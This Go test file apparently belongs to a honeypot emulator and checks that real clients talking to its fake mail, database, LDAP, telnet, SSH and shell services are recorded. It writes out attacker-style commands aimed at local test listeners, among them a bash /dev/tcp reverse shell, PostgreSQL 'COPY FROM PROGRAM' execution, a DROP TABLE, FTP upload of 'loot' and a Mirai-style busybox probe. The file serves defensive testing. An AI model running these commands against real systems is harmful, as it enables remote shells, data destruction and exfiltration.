package service

import (
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/detonaut/detonaut/chamber/tape"
)

// Real clients understand the servers, and what they say is recorded.
func TestClients(t *testing.T) {
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "mail"), []byte("Subject: stolen\r\n\r\nroot:x\r\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	smtpTalk := []tape.Message{
		say("smtp", "AUTH", "mechanism", "PLAIN", "user", "anna", "password", "secret"),
		say("smtp", "MAIL", "from", "a@x.example"), say("smtp", "RCPT", "to", "b@y.example"),
		say("smtp", "DATA", "subject", "stolen", "size", "27", "text", "root:x\n"),
	}
	greeted := say("smtp", "EHLO", "client", "mail")
	for _, tc := range []struct {
		service string
		command string // a shell's, with HOST and PORT in the place of the server's
		output  string // a regular expression
		said    []tape.Message
	}{
		{
			"smtp", "curl -sS -u anna:secret --mail-from a@x.example --mail-rcpt b@y.example -T mail smtp://HOST:PORT", `^$`,
			append([]tape.Message{greeted}, smtpTalk...),
		},
		{
			"smtp", "curl -sS -k --ssl-reqd -u anna:secret --mail-from a@x.example --mail-rcpt b@y.example -T mail smtp://HOST:PORT", `^$`,
			append([]tape.Message{greeted, greeted}, smtpTalk...), // again, inside TLS
		},
		{
			"pop3", "curl -sS -k --ssl-reqd -u anna:secret pop3://HOST:PORT/", `^\s*$`,
			[]tape.Message{say("pop3", "login", "mechanism", "PLAIN", "user", "anna", "password", "secret")},
		},
		{
			"imap", "curl -sS -k --ssl-reqd -u anna:secret imap://HOST:PORT/INBOX -X 'FETCH 1 BODY[]'", ``,
			[]tape.Message{say("imap", "login", "mechanism", "PLAIN", "user", "anna", "password", "secret"), say("imap", "SELECT", "mailbox", "INBOX")},
		},
		{
			"ftp", "curl -sS -u anna:secret ftp://HOST:PORT/bin/bot.sh", `^#!/bin/sh`,
			[]tape.Message{say("ftp", "login", "user", "anna", "password", "secret"), say("ftp", "CWD", "path", "bin"), say("ftp", "RETR", "path", "bot.sh")},
		},
		{
			"ftp", "curl -sS --disable-epsv -u anna:secret -T mail ftp://HOST:PORT/loot", `^$`,
			[]tape.Message{
				say("ftp", "login", "user", "anna", "password", "secret"),
				say("ftp", "STOR", "path", "loot", "size", "27", "text", "Subject: stolen\r\n\r\nroot:x\r\n"),
			},
		},
		{
			"redis", "redis-cli -h HOST -p PORT -a hunter2 --no-auth-warning CONFIG GET dir", `(?s)dir.*/var/lib/redis`,
			[]tape.Message{say("redis", "AUTH", "password", "hunter2"), say("redis", "CONFIG", "command", "GET", "key", "dir")},
		},
		{
			"mysql", "mariadb -h HOST -P PORT -u anna -psecret -e 'DROP TABLE accounts' shop", `^$`,
			[]tape.Message{say("mysql", "login", "user", "anna", "database", "shop"), say("mysql", "query", "query", "DROP TABLE accounts")},
		},
		{
			"mysql", "mariadb --ssl -h HOST -P PORT -u anna -psecret -e 'SELECT 1'", ``,
			[]tape.Message{say("mysql", "login", "user", "anna"), say("mysql", "query", "query", "SELECT 1")},
		},
		{
			"postgresql", `psql -w -c "COPY x FROM PROGRAM 'id'" 'host=HOST port=PORT user=anna password=secret dbname=shop sslmode=require'`, `COPY 0`,
			[]tape.Message{
				say("postgresql", "login", "user", "anna", "database", "shop", "password", "secret", "agent", "psql"),
				say("postgresql", "query", "query", "COPY x FROM PROGRAM 'id'"),
			},
		},
		{
			"ldap", "ldapsearch -x -LLL -D cn=admin -w secret -H ldap://HOST:PORT -b a/b=c '(&(uid=a*b)(!(cn=*)))'", `(?s)javaClassName: Main.*javaCodeBase: http://host.example/`,
			[]tape.Message{
				say("ldap", "bind", "user", "cn=admin", "password", "secret", "mechanism", "simple"),
				say("ldap", "search", "dn", "a/b=c", "filter", "(&(uid=a*b)(!(cn=*)))"),
			},
		},
		{
			"ldap", "LDAPTLS_REQCERT=never ldapsearch -x -ZZ -LLL -H ldap://HOST:PORT -b '' -s base", `supportedLDAPVersion: 3`,
			[]tape.Message{
				say("ldap", "extended", "name", ldapStartTLS), say("ldap", "bind", "mechanism", "simple"),
				say("ldap", "search", "filter", "(objectclass=*)"),
			},
		},
		{
			"mqtt", "curl -sS -u anna:secret -d hello mqtt://HOST:PORT/cmd", `^$`,
			[]tape.Message{say("mqtt", "connect", "client", "*", "user", "anna", "password", "secret"), say("mqtt", "publish", "topic", "cmd", "text", "hello")},
		},
		{
			"telnet", `printf 'root\nadmin\n/bin/busybox ECCHI\nexit\n' | curl -sS telnet://HOST:PORT`, `ECCHI: applet not found`,
			[]tape.Message{say("telnet", "login", "user", "root", "password", "admin"), say("telnet", "command", "command", "/bin/busybox ECCHI")},
		},
		{
			"ssh", "ssh -F none -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -p PORT root@HOST id; test $? = 255", `Too many connections`,
			[]tape.Message{say("ssh", "version", "client", "*", "hassh", "*")},
		},
		{
			"shell", "bash -c 'sh <>/dev/tcp/HOST/PORT >&0 2>&0'", ``,
			[]tape.Message{say("shell", "answer", "command", "id", "answer", "*")},
		},
	} {
		t.Run(tc.service, func(t *testing.T) {
			v := Service{Name: "shell", talk: func(s *Session) error { return probeOnce(s) }}
			if tc.service != "shell" {
				v = named(t, tc.service)
			}
			at, stop := listen(t, v)
			needs(t, tc.command)
			command := strings.NewReplacer("HOST", at.Addr().String(), "PORT", at.String()[strings.LastIndex(at.String(), ":")+1:]).Replace(tc.command)
			cmd := exec.CommandContext(t.Context(), "sh", "-c", command)
			cmd.Dir = dir
			cmd.Env = append(os.Environ(), "HOME="+dir)
			out, err := cmd.CombinedOutput()
			if err != nil {
				t.Errorf("%s: %v\n%s", command, err, out)
			}
			if !regexp.MustCompile(tc.output).Match(out) {
				t.Errorf("%s: got %q, want %s", command, out, tc.output)
			}
			if diff := cmp.Diff(tc.said, stop(), cmp.Comparer(wild)); diff != "" {
				t.Errorf("recorded (-want +got):\n%s", diff)
			}
		})
	}
}

// wild has * stand for any text.
func wild(a, b string) bool { return a == b || a == "*" && b != "" || b == "*" && a != "" }

// probeOnce is the probe, and hangs up on a shell that has answered.
func probeOnce(s *Session) error {
	say := s.Say
	s.Say = func(m tape.Message, cut bool) {
		say(m, cut)
		s.Conn.Close()
	}
	return probe(s)
}

var program = regexp.MustCompile(`\b(curl|redis-cli|mariadb|psql|ldapsearch|ssh|bash) `)

var packages = map[string]string{
	"curl": "curl", "redis-cli": "redis-tools", "mariadb": "mariadb-client-core", "psql": "postgresql-client", "ldapsearch": "ldap-utils", "ssh": "openssh-client", "bash": "bash",
}

func needs(t *testing.T, command string) {
	t.Helper()
	m := program.FindStringSubmatch(command)
	if m == nil {
		t.Fatalf("%q calls no program that is known", command)
	}
	if _, err := exec.LookPath(m[1]); err != nil {
		t.Fatalf("%v: run testdata/needs.sh test, or install %s", err, packages[m[1]])
	}
}
